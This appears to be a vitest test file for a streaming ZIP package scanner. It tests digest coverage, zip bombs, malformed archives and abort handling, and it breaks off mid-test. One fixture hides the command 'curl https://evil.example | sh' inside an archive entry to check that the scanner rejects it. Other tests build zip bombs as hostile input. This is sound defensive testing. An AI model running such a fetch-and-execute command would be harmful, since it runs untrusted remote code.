import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCipheriv, createHash } from 'node:crypto';
import { mkdir, open, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { Readable } from 'node:stream';
import { constants, crc32, createDeflateRaw, inflateRawSync } from 'node:zlib';
import { ZipFile } from 'yazl';
import { buildPackage } from './build.js';
import { checkPackage, type CheckOptions } from './check.js';
import { FileReader } from './file-reader.js';
import type { PackageCheckResult } from './findings.js';
import { DEFAULT_LIMITS, type PackageLimits } from './limits.js';
import { PackageStreamScan, type ScannedEntries, type ScannedEntry } from './stream-scan.js';
import { rawZip, type RawEntry } from '../../test/support/raw-zip.js';
import { appFiles, keyPair, signed, Workbench, type FixtureFile, type KeyPair } from './test-support.js';
import { readZipLayout, type ZipEntry } from './zip.js';

/**
 * PackageStreamScan against real package files: whatever the bytes and however they are cut into
 * chunks, checkPackage with the scan's digests must say exactly what it says without them, and
 * for an honest package the scan must cover every entry (else the optimisation silently does
 * nothing).
 */

let bench: Workbench;
let keys: KeyPair;

beforeAll(async () => {
  bench = await Workbench.create();
  keys = keyPair();
});
afterAll(async () => {
  await bench.cleanup();
});

const KiB = 1024;
const MiB = 1024 * KiB;
const WHOLE = Number.MAX_SAFE_INTEGER;

// ───────────────────────────── helpers ─────────────────────────────

/** Feeds `bytes` to a new scan `chunkSize` bytes at a time, waiting whenever it asks to. */
async function scanBytes(bytes: Buffer, chunkSize: number, limits?: Partial<PackageLimits>): Promise<ScannedEntries> {
  const scan = new PackageStreamScan(limits);
  for (let offset = 0; offset < bytes.length; offset += chunkSize) {
    await scan.write(bytes.subarray(offset, offset + chunkSize));
  }
  return scan.end();
}

async function scanFile(file: string, chunkSize: number, limits?: Partial<PackageLimits>): Promise<ScannedEntries> {
  return scanBytes(await readFile(file), chunkSize, limits);
}

const options = (extra: Partial<CheckOptions> = {}): CheckOptions => ({ allowedKeys: [keys.publicKey], ...extra });

/**
 * checkPackage of a file without scanned digests, once per file and limits: a test that scans one
 * file in several chunk sizes compares each scan with the same result (files are never rewritten).
 */
const plainChecks = new Map<string, Promise<PackageCheckResult>>();

function checkWithout(file: string, limits?: Partial<PackageLimits>): Promise<PackageCheckResult> {
  const key = `${file}\n${JSON.stringify(limits ?? {})}`;
  let result = plainChecks.get(key);
  if (result === undefined) {
    result = checkPackage(file, options({ limits }));
    plainChecks.set(key, result);
  }
  return result;
}

/** checkPackage without and with `scanned`; the two must be equal. */
async function checkBoth(file: string, scanned: ScannedEntries, limits?: Partial<PackageLimits>): Promise<{ without: PackageCheckResult; withScan: PackageCheckResult }> {
  const without = await checkWithout(file, limits);
  const withScan = await checkPackage(file, options({ limits, scanned }));
  return { without, withScan };
}

async function layoutOf(file: string, limits: Partial<PackageLimits> = {}): Promise<ZipEntry[]> {
  const handle = await open(file, 'r');
  try {
    const layout = await readZipLayout(new FileReader(handle, (await handle.stat()).size), { ...DEFAULT_LIMITS, ...limits });
    return layout.entries;
  } finally {
    await handle.close();
  }
}

/** Whether a scanned entry is the one the central directory describes, field for field. */
function matches(scanned: ScannedEntry | undefined, entry: ZipEntry): boolean {
  return (
    scanned !== undefined &&
    scanned.dataOffset === entry.dataOffset &&
    scanned.method === entry.method &&
    scanned.compressedSize === entry.compressedSize &&
    scanned.crc32 === entry.crc32 &&
    scanned.digest.size === entry.size
  );
}

/** Names of the entries whose scanned digest checkPackage can use, and of those it cannot. */
async function coverage(file: string, scanned: ScannedEntries): Promise<{ covered: string[]; missed: string[] }> {
  const covered: string[] = [];
  const missed: string[] = [];
  for (const entry of await layoutOf(file)) (matches(scanned.get(entry.localHeaderOffset), entry) ? covered : missed).push(entry.name);
  return { covered, missed };
}

const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex');

/** Deterministic incompressible bytes (AES-256-CTR of zeros). */
function noise(length: number, seed: string): Buffer {
  const cipher = createCipheriv('aes-256-ctr', createHash('sha256').update(seed).digest(), Buffer.alloc(16));
  return Buffer.concat([cipher.update(Buffer.alloc(length)), cipher.final()]);
}

/** Text that deflate shrinks a lot (`repetitive`) or only by a quarter (base64 of noise). */
function text(length: number, kind: 'repetitive' | 'base64', seed = 'text'): Buffer {
  if (kind === 'base64') return Buffer.from(noise(Math.ceil((length * 3) / 4), seed).toString('base64')).subarray(0, length);
  const lines: string[] = [];
  let total = 0;
  for (let i = 0; total < length; i++) {
    const line = `${i}: the quick brown fox jumps over the lazy dog (${seed} ${i % 97})\n`;
    lines.push(line);
    total += line.length;
  }
  return Buffer.from(lines.join('')).subarray(0, length);
}

/** A small deterministic PRNG (mulberry32), so every fuzz run is the same. */
function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Built {
  file: string;
  bytes: Buffer;
  /** SHA-256 of every entry's content by path, computed from the sources (META-INF from the build). */
  digests: Map<string, string>;
}

/** The app of test-support plus `extra` files, built and signed by buildPackage as `mosis build` does. */
async function buildApp(name: string, extra: Record<string, Buffer>): Promise<Built> {
  const folder = join(bench.dir, name);
  const files = [...appFiles(), ...Object.entries(extra).map(([path, data]) => ({ path, data }))];
  for (const file of files) {
    const target = join(folder, ...file.path.split('/'));
    await mkdir(dirname(target), { recursive: true });
    await writeFile(target, file.data);
  }
  const result = await buildPackage(folder, { privateKey: keys.privateKey, out: join(bench.dir, `${name}.mosis`) });
  const digests = new Map(files.map((file) => [file.path, sha256(file.data)]));
  for (const file of result.files) if (!digests.has(file.path)) digests.set(file.path, file.sha256);
  return { file: result.file, bytes: await readFile(result.file), digests };
}

interface ZipFileSpec extends FixtureFile {
  /** Deflate (default) or store. */
  compress?: boolean;
  /** Written from a stream: sizes and CRC-32 only in a data descriptor after the data. */
  streamed?: boolean;
}

/** A ZIP written by yazl with per-file choices of compression and data descriptors. */
async function yazlZip(files: readonly ZipFileSpec[]): Promise<Buffer> {
  const zip = new ZipFile();
  for (const file of files) {
    const entryOptions = { mtime: new Date(2000, 0, 1), compress: file.compress ?? true };
    if (file.streamed === true) zip.addReadStream(Readable.from([file.data]), file.path, entryOptions);
    else zip.addBuffer(file.data, file.path, entryOptions);
  }
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/**
 * `zip` with `hidden` inserted after the DEFLATE stream of the streamed entry `name`, counted as
 * compressed data in its data descriptor and central record; every later offset is moved along.
 */
function hideAfterStream(zip: Buffer, layout: readonly ZipEntry[], name: string, hidden: Buffer): Buffer {
  const entry = layout.find((candidate) => candidate.name === name);
  if (entry === undefined || (entry.flags & 0b1000) === 0) throw new Error(`${name} is not a streamed entry`);
  const at = entry.dataOffset + entry.compressedSize;
  const bytes = Buffer.concat([zip.subarray(0, at), hidden, zip.subarray(at)]);
  const moved = (offset: number) => (offset >= at ? offset + hidden.length : offset);
  // The descriptor: signature, CRC-32, compressed size, size.
  if (bytes.readUInt32LE(at + hidden.length) !== 0x08074b50) throw new Error('no data descriptor signature');
  bytes.writeUInt32LE(entry.compressedSize + hidden.length, at + hidden.length + 8);
  const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const centralStart = bytes.readUInt32LE(end + 16);
  bytes.writeUInt32LE(moved(centralStart), end + 16);
  let record = moved(centralStart);
  for (let i = 0; i < layout.length; i++) {
    if (bytes.readUInt32LE(record) !== 0x02014b50) throw new Error('no central record');
    if (bytes.readUInt32LE(record + 42) === entry.localHeaderOffset) bytes.writeUInt32LE(entry.compressedSize + hidden.length, record + 20);
    bytes.writeUInt32LE(moved(bytes.readUInt32LE(record + 42)), record + 42);
    record += 46 + bytes.readUInt16LE(record + 28) + bytes.readUInt16LE(record + 30) + bytes.readUInt16LE(record + 32);
  }
  return bytes;
}

/** A raw DEFLATE stream written in parts, each at its own level (a sync flush between levels). */
async function deflateInParts(parts: readonly { level: number; data: Buffer }[]): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: parts[0]?.level ?? 6 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let level = parts[0]?.level;
  for (const part of parts) {
    if (part.level !== level) {
      await new Promise<void>((resolve) => deflate.flush(constants.Z_SYNC_FLUSH, resolve));
      await new Promise<void>((resolve) => deflate.params(part.level, constants.Z_DEFAULT_STRATEGY, resolve));
      level = part.level;
    }
    deflate.write(part.data);
  }
  deflate.end();
  await ended;
  return Buffer.concat(out);
}

/** The leading stored blocks of a raw DEFLATE stream: their count and where the first other block starts. */
function leadingStoredBlocks(stream: Buffer): { blocks: number; end: number; nextType: number | null } {
  let position = 0;
  let blocks = 0;
  while (position < stream.length && (((stream[position] as number) >> 1) & 0b11) === 0) {
    const final = ((stream[position] as number) & 1) === 1;
    position += 5 + stream.readUInt16LE(position + 1);
    blocks += 1;
    if (final) return { blocks, end: position, nextType: null };
  }
  return { blocks, end: position, nextType: position < stream.length ? ((stream[position] as number) >> 1) & 0b11 : null };
}

/** `size` zero bytes through DEFLATE, streamed (the inflated bytes are never held). */
async function deflatedZeros(size: number): Promise<{ compressed: Buffer; crc: number }> {
  const deflate = createDeflateRaw({ level: 1 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise<void>((resolve) => deflate.on('end', resolve));
  const zeros = Buffer.alloc(MiB);
  let crc = 0;
  for (let written = 0; written < size; written += zeros.length) {
    const piece = zeros.subarray(0, Math.min(zeros.length, size - written));
    crc = crc32(piece, crc);
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return { compressed: Buffer.concat(out), crc };
}

/** Runs queued microtasks only: no timer, I/O callback or thread-pool completion gets in. */
async function microtasks(): Promise<void> {
  for (let i = 0; i < 50; i++) await Promise.resolve();
}

// ───────────────────────────── honest packages ─────────────────────────────

describe('an honest package built like `mosis build` (data descriptors on every entry)', () => {
  let big: Built;
  let small: Built;
  let expected: PackageCheckResult;

  beforeAll(async () => {
    const smallFiles: Record<string, Buffer> = {};
    for (let i = 0; i < 300; i++) {
      smallFiles[`assets/small/${String(i).padStart(3, '0')}.${i % 3 === 0 ? 'bin' : 'txt'}`] =
        i % 3 === 0 ? noise((i * 37) % 3000, `small ${i}`) : text(1 + ((i * 53) % 5000), 'repetitive', `small ${i}`);
    }
    big = await buildApp('big', {
      // Incompressible: deflate writes stored blocks, hashed without zlib.
      'assets/data/random.bin': noise(3 * MiB, 'random'),
      // Compressible: inflated in one call.
      'assets/data/text.txt': text(2 * MiB, 'repetitive'),
      // Inflates to more than one call takes: streamed through zlib from the first block on.
      'assets/data/long.txt': text(5 * MiB + 123, 'repetitive', 'long'),
      // Compresses by a quarter only: more than 1 MiB of compressed blocks, streamed through zlib.
      'assets/data/base64.txt': text(2 * MiB, 'base64'),
      // Stored blocks, then compressed ones, then stored ones again: zlib takes over mid-entry.
      'assets/data/mixed.bin': Buffer.concat([noise(1 * MiB + 1, 'mixed 1'), text(MiB, 'repetitive', 'mixed'), noise(MiB, 'mixed 2')]),
      'assets/data/empty.txt': Buffer.alloc(0),
      ...smallFiles,
    });
    expected = await checkPackage(big.file, options());
    small = await buildApp('small', {
      'assets/data/random.bin': noise(70 * KiB, 'small random'),
      'assets/data/zeros.bin': Buffer.alloc(5 * MiB),
      'assets/data/text.txt': text(20 * KiB, 'repetitive'),
      'assets/data/empty.txt': Buffer.alloc(0),
      'assets/small/a.txt': Buffer.from('a'),
      'assets/small/b.txt': Buffer.from('bb\n'),
    });
  });

  it('is a clean package whose entries all have data descriptors, and whose large random file starts with stored blocks', async () => {
    expect(expected.findings).toEqual([]);
    expect(expected.files.length).toBe(big.digests.size);
    const entries = await layoutOf(big.file);
    // buildPackage streams every file into yazl; only CERT.SIG, added as a buffer, has its sizes up front.
    expect(entries.filter((entry) => (entry.flags & 0b1000) === 0).map((entry) => entry.name)).toEqual(['META-INF/CERT.SIG']);
    const random = entries.find((entry) => entry.name === 'assets/data/random.bin');
    if (random === undefined) throw new Error('random.bin is missing');
    expect(random.compressedSize).toBeGreaterThan(random.size);
    expect(leadingStoredBlocks(big.bytes.subarray(random.dataOffset, random.dataOffset + random.compressedSize))).toMatchObject({ nextType: null });
    const mixed = entries.find((entry) => entry.name === 'assets/data/mixed.bin');
    if (mixed === undefined) throw new Error('mixed.bin is missing');
    const mixedBlocks = leadingStoredBlocks(big.bytes.subarray(mixed.dataOffset, mixed.dataOffset + mixed.compressedSize));
    expect(mixedBlocks.blocks).toBeGreaterThan(0);
    expect(mixedBlocks.nextType).not.toBe(0);
    expect(mixedBlocks.nextType).not.toBe(null);
  });

  it.each([
    ['7-byte', 7],
    ['4096-byte', 4096],
    ['64 KiB', 64 * KiB],
    ['one', WHOLE],
  ])('fed in %s chunks: every entry is scanned, digests are right and the check result is the same', async (_name, chunkSize) => {
    const scanned = await scanFile(big.file, chunkSize);
    const { missed, covered } = await coverage(big.file, scanned);
    expect(missed).toEqual([]);
    expect(scanned.size).toBe(expected.files.length);
    expect(covered.length).toBe(expected.files.length);
    const entries = await layoutOf(big.file);
    for (const entry of entries) {
      expect({ path: entry.name, sha256: scanned.get(entry.localHeaderOffset)?.digest.sha256 }).toEqual({ path: entry.name, sha256: big.digests.get(entry.name) });
    }
    const withScan = await checkPackage(big.file, options({ scanned }));
    expect(withScan).toEqual(expected);
  });

  it('fed one byte at a time: every entry is scanned and the check result is the same', async () => {
    const scanned = await scanFile(small.file, 1);
    expect(await coverage(small.file, scanned)).toMatchObject({ missed: [] });
    const entries = await layoutOf(small.file);
    expect(scanned.size).toBe(entries.length);
    for (const entry of entries) expect(scanned.get(entry.localHeaderOffset)?.digest.sha256, entry.name).toBe(small.digests.get(entry.name));
    const { without, withScan } = await checkBoth(small.file, scanned);
    expect(without.findings).toEqual([]);
    expect(withScan).toEqual(without);
  });

  it('keeps the first bytes of each entry (for the executable check) however the bytes arrive', async () => {
    // Over 1 MiB of stored blocks: hashed as they arrive, view by view.
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noise(MiB + 100 * KiB, 'elf')]);
    const built = await buildApp('elf', { 'assets/data/blob.bin': elf, 'assets/data/tool.bin': Buffer.from('#!/bin/sh\necho hi\n') });
    for (const chunkSize of [7, 4096, WHOLE]) {
      const scanned = await scanFile(built.file, chunkSize);
      expect(await coverage(built.file, scanned)).toMatchObject({ missed: [] });
      const blob = (await layoutOf(built.file)).find((entry) => entry.name === 'assets/data/blob.bin');
      expect(scanned.get(blob?.localHeaderOffset ?? -1)?.digest.head).toEqual(elf.subarray(0, 1024));
      const { without, withScan } = await checkBoth(built.file, scanned);
      expect(without.findings.filter((found) => found.code === 'file_forbidden_type').map((found) => found.file)).toEqual(['assets/data/blob.bin', 'assets/data/tool.bin']);
      expect(withScan).toEqual(without);
    }
  });

  it('a truncated package (the first half, or any other cut) ends the scan without an error', async () => {
    for (const fraction of [0.5, 0.1, 0.33, 0.61, 0.9, 0.999]) {
      const cut = big.bytes.subarray(0, Math.floor(big.bytes.length * fraction));
      const file = await bench.file(cut);
      for (const chunkSize of [4096, WHOLE]) {
        const scanned = await scanBytes(cut, chunkSize);
        const { without, withScan } = await checkBoth(file, scanned);
        expect(without.ok).toBe(false);
        expect(withScan).toEqual(without);
      }
    }
  });
});

describe('entries written by other ZIP writers', () => {
  it('scans entries whose sizes are in the local header, stored or deflated', async () => {
    const files: ZipFileSpec[] = [
      ...signed(appFiles(), keys).map((file) => ({ ...file })),
      { path: 'assets/data/stored.bin', data: noise(300 * KiB, 'stored'), compress: false },
      { path: 'assets/data/random.bin', data: noise(1500 * KiB, 'deflated random') },
      { path: 'assets/data/long.txt', data: text(5 * MiB, 'repetitive') },
      { path: 'assets/data/stored-empty.txt', data: Buffer.alloc(0), compress: false },
      { path: 'assets/data/streamed.txt', data: text(100 * KiB, 'base64'), streamed: true },
    ];
    const file = await bench.file(await yazlZip(files));
    for (const chunkSize of [7, 4093, WHOLE]) {
      const scanned = await scanFile(file, chunkSize);
      expect(await coverage(file, scanned)).toMatchObject({ missed: [] });
      const { without, withScan } = await checkBoth(file, scanned);
      expect(without.files.length).toBe(files.length);
      expect(withScan).toEqual(without);
    }
  });

  it('hands the stored bytes to zlib as its dictionary when compressed blocks refer back into them', async () => {
    // 30 KiB, so that the repeat lies within DEFLATE's 32 KiB window (40 KiB would not: deflate
    // then finds no match and writes the repeat as stored blocks too).
    const repeated = noise(30 * KiB, 'repeated');
    const variants: { name: string; content: Buffer; stream: Buffer }[] = [];
    // More than 1 MiB of stored blocks first: too large to inflate in one call, so streamed.
    const filler = noise(MiB + 7, 'filler');
    variants.push({
      name: 'assets/data/long-stored-then-compressed.bin',
      content: Buffer.concat([filler, repeated, repeated]),
      stream: await deflateInParts([
        { level: 0, data: Buffer.concat([filler, repeated]) },
        { level: 9, data: repeated },
      ]),
    });
    // Few stored bytes, but inflating to more than one call takes (a dictionary shorter than 32 KiB).
    const zeros = Buffer.alloc(5 * MiB);
    variants.push({
      name: 'assets/data/short-stored-then-compressed.bin',
      content: Buffer.concat([repeated, repeated, zeros]),
      stream: await deflateInParts([
        { level: 0, data: repeated },
        { level: 9, data: Buffer.concat([repeated, zeros]) },
      ]),
    });
    for (const variant of variants) {
      // The stream is what it should be: stored blocks, then a compressed block that needs them.
      const blocks = leadingStoredBlocks(variant.stream);
      expect(blocks.blocks).toBeGreaterThan(0);
      expect([1, 2]).toContain(blocks.nextType);
      expect(variant.stream.length - blocks.end).toBeLessThan(16 * KiB);
      expect(sha256(inflateRawSync(variant.stream))).toBe(sha256(variant.content));
      expect(() => inflateRawSync(variant.stream.subarray(blocks.end))).toThrow();
    }
    const entries: RawEntry[] = [
      { name: 'first.txt', data: Buffer.from('before') },
      ...variants.map((variant) => ({ name: variant.name, data: variant.content, compressed: variant.stream })),
      { name: 'last.txt', data: Buffer.from('after') },
    ];
    const file = await bench.file(rawZip(entries));
    const layout = await layoutOf(file);
    for (const chunkSize of [7, 4093, 64 * KiB, WHOLE]) {
      const scanned = await scanFile(file, chunkSize);
      expect(await coverage(file, scanned)).toEqual({ covered: entries.map((entry) => entry.name), missed: [] });
      for (const variant of variants) {
        const entry = layout.find((candidate) => candidate.name === variant.name);
        expect(scanned.get(entry?.localHeaderOffset ?? -1)?.digest.sha256).toBe(sha256(variant.content));
      }
      const { without, withScan } = await checkBoth(file, scanned);
      expect(withScan).toEqual(without);
    }
  });

  it('does not take a scanned digest for an entry with bytes hidden between its DEFLATE stream and its data descriptor', async () => {
    // The central directory and the descriptor count the hidden bytes as compressed data; the
    // DEFLATE stream ends before them, which is where the scan, reading the stream, stops.
    const hidden = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const files: ZipFileSpec[] = [
      ...signed(appFiles(), keys).map((file) => ({ ...file, streamed: true })),
      { path: 'assets/data/text.txt', data: text(300 * KiB, 'repetitive'), streamed: true },
      { path: 'assets/data/random.bin', data: noise(1200 * KiB, 'hidden'), streamed: true },
    ];
    const honest = await yazlZip(files);
    for (const target of ['assets/data/text.txt', 'assets/data/random.bin']) {
      const bytes = hideAfterStream(honest, await layoutOf(await bench.file(honest)), target, hidden);
      const file = await bench.file(bytes);
      const entry = (await layoutOf(file)).find((candidate) => candidate.name === target);
      for (const chunkSize of [7, 4093, WHOLE]) {
        const scanned = await scanBytes(bytes, chunkSize);
        const { without, withScan } = await checkBoth(file, scanned);
        expect(without.findings.filter((found) => found.code.startsWith('zip_')).map((found) => found.file)).toEqual([target]);
        // The scan read the stream, and only the stream: its digest is there, but must not be used.
        expect(scanned.get(entry?.localHeaderOffset ?? -1)?.compressedSize).toBe((entry?.compressedSize ?? 0) - hidden.length);
        expect(withScan).toEqual(without);
      }
    }
  });

  it('stops at a STORED entry with a data descriptor: the entries before it are scanned, it and the rest are not', async () => {
    const files: ZipFileSpec[] = [
      ...signed(appFiles(), keys).slice(0, 3),
      { path: 'assets/data/before.bin', data: noise(2 * MiB, 'before'), streamed: true },
      { path: 'assets/data/stored-streamed.txt', data: text(10 * KiB, 'repetitive'), compress: false, streamed: true },
      { path: 'assets/data/after.txt', data: text(10 * KiB, 'repetitive'), streamed: true },
      { path: 'assets/data/after.bin', data: noise(10 * KiB, 'after') },
    ];
    const file = await bench.file(await yazlZip(files));
    const layout = await layoutOf(file);
    const stored = layout.find((entry) => entry.name === 'assets/data/stored-streamed.txt');
    expect(stored).toMatchObject({ method: 0 });
    expect((stored?.flags ?? 0) & 0b1000).not.toBe(0);
    const names = files.map((file) => file.path);
    for (const chunkSize of [7, 4093, WHOLE]) {
      const scanned = await scanFile(file, chunkSize);
      expect(await coverage(file, scanned)).toEqual({ covered: names.slice(0, 4), missed: names.slice(4) });
      expect(scanned.size).toBe(4);
      const { without, withScan } = await checkBoth(file, scanned);
      expect(without.files.map((found) => found.path)).toEqual(names);
      expect(withScan).toEqual(without);
    }
  });
});

// ───────────────────────────── hostile input ─────────────────────────────

describe('zip bombs and limits', () => {
  const BOMB_BYTES = 200 * MiB;
  let bomb: { compressed: Buffer; crc: number };
  let streamedBomb: Buffer;

  beforeAll(async () => {
    bomb = await deflatedZeros(BOMB_BYTES);
    // The same through yazl from a stream: sizes only in the data descriptor after 200 MiB.
    const zip = new ZipFile();
    zip.addBuffer(Buffer.from('first'), 'first.txt');
    zip.addReadStream(Readable.from((function* () {
      for (let i = 0; i < BOMB_BYTES / (4 * MiB); i++) yield Buffer.alloc(4 * MiB);
    })()), 'assets/bomb.bin', { compressionLevel: 1 });
    zip.addBuffer(Buffer.from('last'), 'last.txt');
    zip.end();
    const chunks: Buffer[] = [];
    for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
    streamedBomb = Buffer.concat(chunks);
  }, 60_000);

  const cases: { name: string; limits: Partial<PackageLimits>; make: () => Buffer; code: string }[] = [
    {
      name: 'declaring its real size, with limits below what one call inflates',
      limits: { maxFileBytes: MiB, maxTotalBytes: 2 * MiB },
      make: () => rawZip([{ name: 'first.txt', data: Buffer.from('first') }, { name: 'assets/bomb.bin', compressed: bomb.compressed, crc32: bomb.crc, uncompressedSize: BOMB_BYTES }, { name: 'last.txt', data: Buffer.from('last') }]),
      code: 'zip_file_too_large',
    },
    {
      name: 'declaring 1 KiB, with limits above what one call inflates',
      limits: { maxFileBytes: 8 * MiB, maxTotalBytes: 16 * MiB },
      make: () => rawZip([{ name: 'first.txt', data: Buffer.from('first') }, { name: 'assets/bomb.bin', compressed: bomb.compressed, crc32: bomb.crc, uncompressedSize: 1024 }, { name: 'last.txt', data: Buffer.from('last') }]),
      code: 'zip_size_mismatch',
    },
    {
      name: 'declaring 1 KiB, with the default limits',
      limits: {},
      make: () => rawZip([{ name: 'first.txt', data: Buffer.from('first') }, { name: 'assets/bomb.bin', compressed: bomb.compressed, crc32: bomb.crc, uncompressedSize: 1024 }, { name: 'last.txt', data: Buffer.from('last') }]),
      code: 'zip_size_mismatch',
    },
    { name: 'streamed with a data descriptor, small limits', limits: { maxFileBytes: MiB, maxTotalBytes: 2 * MiB }, make: () => streamedBomb, code: 'zip_file_too_large' },
    { name: 'streamed with a data descriptor, large limits', limits: { maxFileBytes: 8 * MiB, maxTotalBytes: 16 * MiB }, make: () => streamedBomb, code: 'zip_file_too_large' },
  ];

  it.each(cases.map((bombCase) => [bombCase.name, bombCase] as const))('a bomb %s: the scan stops at it promptly', async (_name, bombCase) => {
    const bytes = bombCase.make();
    const file = await bench.file(bytes);
    for (const chunkSize of [4093, 64 * KiB, WHOLE]) {
      const started = performance.now();
      const scanned = await scanBytes(bytes, chunkSize, bombCase.limits);
      expect(performance.now() - started).toBeLessThan(5000);
      expect(await coverage(file, scanned)).toEqual({ covered: ['first.txt'], missed: ['assets/bomb.bin', 'last.txt'] });
      const { without, withScan } = await checkBoth(file, scanned, bombCase.limits);
      expect(without.findings.map((found) => found.code)).toContain(bombCase.code);
      expect(withScan).toEqual(without);
    }
  });

  it('stops once an honest entry inflates to over 32 bytes per byte received (plus 16 MiB), leaving it to the check', async () => {
    // 48 MiB of zeros deflate to about 50 KiB: within every size limit, but far past the expansion bound.
    const zeros = await deflatedZeros(48 * MiB);
    const bytes = rawZip([{ name: 'first.txt', data: Buffer.from('first') }, { name: 'assets/zeros.bin', compressed: zeros.compressed, crc32: zeros.crc, uncompressedSize: 48 * MiB }, { name: 'last.txt', data: Buffer.from('last') }]);
    const file = await bench.file(bytes);
    const scanned = await scanBytes(bytes, 64 * KiB);
    expect(await coverage(file, scanned)).toEqual({ covered: ['first.txt'], missed: ['assets/zeros.bin', 'last.txt'] });
    const { without, withScan } = await checkBoth(file, scanned);
    expect(without.findings.filter((found) => found.code.startsWith('zip_'))).toEqual([]);
    expect(withScan).toEqual(without);
  });

  it('stops where the total limit is passed', async () => {
    const files: ZipFileSpec[] = [];
    for (let i = 0; i < 8; i++) files.push({ path: `assets/data/${i}.bin`, data: i % 2 === 0 ? noise(300 * KiB, `total ${i}`) : text(300 * KiB, 'repetitive'), streamed: i % 3 === 0 });
    const file = await bench.file(await yazlZip(files));
    const limits = { maxTotalBytes: 1000 * KiB };
    const scanned = await scanFile(file, 4093, limits);
    expect(await coverage(file, scanned)).toEqual({ covered: files.slice(0, 3).map((found) => found.path), missed: files.slice(3).map((found) => found.path) });
    const { without, withScan } = await checkBoth(file, scanned, limits);
    expect(without.findings.map((found) => found.code)).toContain('zip_total_too_large');
    expect(withScan).toEqual(without);
  });

  it('stops after maxEntries entries', async () => {
    const files: ZipFileSpec[] = [];
    for (let i = 0; i < 20; i++) files.push({ path: `assets/${i}.txt`, data: Buffer.from(`file ${i}`) });
    const file = await bench.file(await yazlZip(files));
    const scanned = await scanFile(file, 4093, { maxEntries: 5 });
    expect(scanned.size).toBe(5);
    const { without, withScan } = await checkBoth(file, scanned, { maxEntries: 5 });
    expect(without.findings.map((found) => found.code)).toEqual(['zip_too_many_entries']);
    expect(withScan).toEqual(without);
  });
});

describe('bytes that are not a package', () => {
  const garbage: [string, () => Buffer][] = [
    ['random bytes', () => noise(3 * MiB, 'garbage')],
    ['text', () => text(100 * KiB, 'repetitive')],
    ['an empty file', () => Buffer.alloc(0)],
    ['a local header signature and then noise', () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), noise(2 * MiB, 'after signature')])],
    [
      'a local header of a STORED entry larger than what follows',
      () => {
        const header = Buffer.alloc(30);
        header.writeUInt32LE(0x04034b50, 0);
        header.writeUInt16LE(0, 8);
        header.writeUInt32LE(50 * MiB, 18);
        header.writeUInt32LE(50 * MiB, 22);
        header.writeUInt16LE(1, 26);
        return Buffer.concat([header, Buffer.from('a'), noise(MiB, 'short stored')]);
      },
    ],
    [
      'a local header of a streamed deflated entry followed by noise',
      () => {
        const header = Buffer.alloc(30);
        header.writeUInt32LE(0x04034b50, 0);
        header.writeUInt16LE(0b1000, 6);
        header.writeUInt16LE(8, 8);
        header.writeUInt16LE(1, 26);
        return Buffer.concat([header, Buffer.from('a'), noise(3 * MiB, 'streamed noise')]);
      },
    ],
    [
      'an endless deflated entry of stored blocks (never final)',
      () => {
        const header = Buffer.alloc(30);
        header.writeUInt32LE(0x04034b50, 0);
        header.writeUInt16LE(0b1000, 6);
        header.writeUInt16LE(8, 8);
        header.writeUInt16LE(1, 26);
        const block = Buffer.concat([Buffer.from([0, 0xff, 0xff, 0, 0]), noise(0xffff, 'block')]);
        return Buffer.concat([header, Buffer.from('a'), ...Array<Buffer>(40).fill(block)]);
      },
    ],
  ];

  it.each(garbage)('%s: the scan ends without an error and the check says the same', async (_name, make) => {
    const bytes = make();
    const file = await bench.file(bytes);
    for (const chunkSize of [1000, 4093, WHOLE]) {
      const scanned = await scanBytes(bytes, chunkSize);
      expect(scanned.size).toBe(0);
      const { without, withScan } = await checkBoth(file, scanned);
      expect(without.ok).toBe(false);
      expect(withScan).toEqual(without);
    }
  });
});

describe('abort()', () => {
  /** A package whose first entry needs zlib (so the scan waits on the thread pool) and is larger than the queue. */
  let slow: Buffer | undefined;
  function slowPackage(): Buffer {
    // Made once for the three tests: 8 MiB of base64 to encrypt and deflate is most of each.
    slow ??= rawZip([{ name: 'assets/data/base64.txt', data: text(8 * MiB, 'base64', 'abort') }, { name: 'last.txt', data: Buffer.from('last') }]);
    return slow;
  }

  it('(control) a write larger than the queue leaves the producer waiting while the scan is busy', async () => {
    const scan = new PackageStreamScan();
    const wait = scan.write(slowPackage());
    expect(wait).toBeInstanceOf(Promise);
    let released = false;
    void wait?.then(() => (released = true));
    await microtasks();
    expect(released).toBe(false);
    await wait;
    const scanned = await scan.end();
    expect(scanned.size).toBe(2);
  });

  it('releases a producer waiting on write() and ends the scan', async () => {
    const scan = new PackageStreamScan();
    const wait = scan.write(slowPackage());
    expect(wait).toBeInstanceOf(Promise);
    let released = false;
    void wait?.then(() => (released = true));
    await microtasks();
    expect(released).toBe(false);
    scan.abort();
    await microtasks();
    expect(released).toBe(true);
    expect(scan.write(Buffer.alloc(5 * MiB))).toBeUndefined();
    const scanned = await scan.end();
    expect(scanned.size).toBe(0);
  });

  it('before any byte: end() resolves with nothing scanned', async () => {
    const scan = new PackageStreamScan();
    scan.abort();
    expect(scan.write(slowPackage())).toBeUndefined();
    expect((await scan.end()).size).toBe(0);
  });
});

describe('digests scanned from other bytes', () => {
  it.each([
    ['deflated, sizes in the local header', { compress: true, streamed: false }],
